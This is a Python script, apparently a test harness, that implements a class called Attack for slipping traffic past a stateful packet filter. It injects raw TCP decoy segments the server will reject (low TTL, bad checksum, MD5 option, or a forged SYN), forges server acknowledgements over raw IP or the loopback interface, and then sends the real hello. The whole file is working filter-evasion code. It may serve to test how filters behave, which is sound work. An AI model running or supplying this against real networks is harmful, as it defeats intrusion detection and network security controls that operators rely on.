"""Connects, and shows the filter a hello that the server never takes before the one that it does.

Arguments: a JSON object: `to`, an address (IPv4) and port; `source`, the address that replies go to
on the machine with the filter; `decoy` and `hello`, texts in Latin-1; `how` the server comes not to
take the decoy: `ttl`, `checksum`, `md5`, or `syn` (it belongs to a SYN with another number, which
the server does not get either); `forge`, an answer in the server's place that takes the decoy: "",
`ip`, or `lo` (a whole frame onto the loopback interface). Prints, as JSON, what was heard and the
error that ended it. Needs CAP_NET_RAW, which containers have.
"""

from __future__ import annotations

import contextlib
import json
import socket
import struct
import sys
from dataclasses import dataclass

ETHERTYPE_IP = 0x0800
SYN, PSH, ACK = 0x02, 0x08, 0x10
NEAR, FAR = 2, 64
"""Hops: a packet that gets as far as the filter and one more, and one that arrives."""
MD5 = bytes((19, 18)) + bytes(16) + b"\x01\x01"
"""The option of RFC 2385, which a server without a key drops, and two of no meaning."""
PATIENCE = 5.0


@dataclass(frozen=True)
class End:
    address: str
    port: int

    @property
    def packed(self) -> bytes:
        return socket.inet_aton(self.address)


def checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071)."""
    total: int = sum(
        struct.unpack(f"!{len(data + bytes(len(data) % 2)) // 2}H", data + bytes(len(data) % 2))
    )
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return total ^ 0xFFFF


def packet(  # noqa: PLR0913 - a packet's fields
    source: End,
    to: End,
    numbers: tuple[int, int],
    flags: int,
    payload: bytes = b"",
    *,
    hops: int = FAR,
    options: bytes = b"",
    wrong: bool = False,
) -> bytes:
    """An IPv4 packet with one segment; `numbers` are its own and what it acknowledges."""
    words = (20 + len(options)) // 4 << 4
    fields = (source.port, to.port, *(n % (1 << 32) for n in numbers), words, flags, 0xFFFF)
    body = struct.pack("!HHIIBBHHH", *fields, 0, 0) + options + payload
    pseudo = source.packed + to.packed + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(body))
    check = checksum(pseudo + body) ^ (0x5555 if wrong else 0)
    body = body[:16] + struct.pack("!H", check) + body[18:]
    head = (0x45, 0, 20 + len(body), 0, 0, hops, socket.IPPROTO_TCP)
    ends = source.packed + to.packed
    check = checksum(struct.pack("!BBHHHBBH", *head, 0) + ends)
    return struct.pack("!BBHHHBBH", *head, check) + ends + body


class Attack:
    def __init__(self, asked: dict[str, str], to: End) -> None:
        self.asked = asked
        self.to = to
        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.seen = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETHERTYPE_IP))
        self.seen.settimeout(PATIENCE)
        self.client = socket.socket()
        self.client.settimeout(PATIENCE)
        self.client.bind((own_address(to), 0))
        self.own = End(*self.client.getsockname())

    def syn_ack(self) -> tuple[int, int]:
        """The numbers of the next segment: the client's next byte, and the server's."""
        while True:
            data = self.seen.recv(65535)
            if data[9] != socket.IPPROTO_TCP or data[12:16] != self.to.packed:
                continue
            sport, dport, number, acknowledged, _, flags = struct.unpack("!HHIIBB", data[20:34])
            if (sport, dport, flags & 0x3F) == (self.to.port, self.own.port, SYN | ACK):
                return acknowledged, number + 1

    def show_decoy(self, numbers: tuple[int, int]) -> None:
        decoy, how = self.asked["decoy"].encode("latin-1"), self.asked["how"]
        hops = NEAR if how in {"ttl", "syn"} else FAR
        self.send(
            packet(
                self.own,
                self.to,
                numbers,
                PSH | ACK,
                decoy,
                hops=hops,
                options=MD5 if how == "md5" else b"",
                wrong=how == "checksum",
            )
        )

    def send(self, data: bytes) -> None:
        # On the host's own network the filter's refusal is heard; the attack goes on all the same.
        with contextlib.suppress(PermissionError):
            self.raw.sendto(data, (socket.inet_ntoa(data[16:20]), 0))

    def forge(self, numbers: tuple[int, int]) -> None:
        """Say, as the server, that the decoy was taken."""
        back = End(self.asked["source"], self.own.port)
        decoy = len(self.asked["decoy"].encode("latin-1"))
        answer = (numbers[1], numbers[0] + decoy)
        # That it began where the decoy does, and that it has taken it: alone, and with data.
        for flags, payload, own in (
            (SYN | ACK, b"", (numbers[1] - 1, numbers[0])),
            (ACK, b"", answer),
            (PSH | ACK, b"x", answer),
        ):
            data = packet(self.to, back, own, flags, payload)
            if self.asked["forge"] == "lo":
                with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as frame:
                    frame.bind(("lo", ETHERTYPE_IP))
                    frame.send(bytes(12) + struct.pack("!H", ETHERTYPE_IP) + data)
            else:
                self.send(data)

    def run(self) -> tuple[bytes, str]:
        if self.asked["how"] == "syn":
            self.send(packet(self.own, self.to, (1000, 0), SYN, hops=NEAR))
            self.show_decoy((1001, 1))
        self.client.connect((self.to.address, self.to.port))
        numbers = self.syn_ack()
        if self.asked["how"] not in {"syn", ""}:
            self.show_decoy(numbers)
        if self.asked["forge"]:
            self.forge(numbers)
        self.client.sendall(self.asked["hello"].encode("latin-1"))
        heard = self.client.recv(3)
        # What was held back until something was said comes now, if ever.
        self.client.sendall(b"\x15\x03\x03\0\x02\x01\0")
        return heard, ""


def own_address(to: End) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asks:
        asks.connect((to.address, to.port))
        return str(asks.getsockname()[0])


def main() -> None:
    asked = json.loads(sys.argv[1])
    address, port = asked.pop("to")
    try:
        heard, error = Attack(asked, End(address, port)).run()
    except OSError as failed:
        heard, error = b"", type(failed).__name__
    print(json.dumps([heard.decode("latin-1"), error]), flush=True)  # noqa: T201


if __name__ == "__main__":
    main()
